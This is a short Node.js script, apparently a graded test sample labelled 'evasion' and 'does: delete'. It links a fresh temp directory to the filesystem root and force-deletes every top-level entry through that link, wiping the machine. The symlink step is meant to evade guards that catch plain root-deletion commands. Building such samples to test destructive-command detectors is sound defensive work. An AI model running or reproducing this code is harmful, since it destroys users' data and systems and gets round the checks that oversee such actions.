// evasion: a symlink to / made with fs.promises in a fresh mkdtemp dir; every entry under the link removed with fs.promises.rm
// grade: hard; does: delete
const fsp = require('fs/promises');
const path = require('path');
(async () => {
  const dir = await fsp.mkdtemp('/tmp/w-');
  const root = path.join(dir, 'r');
  await fsp.symlink('/', root);
  for (const n of await fsp.readdir(root)) await fsp.rm(path.join(root, n), { recursive: true, force: true });
})();
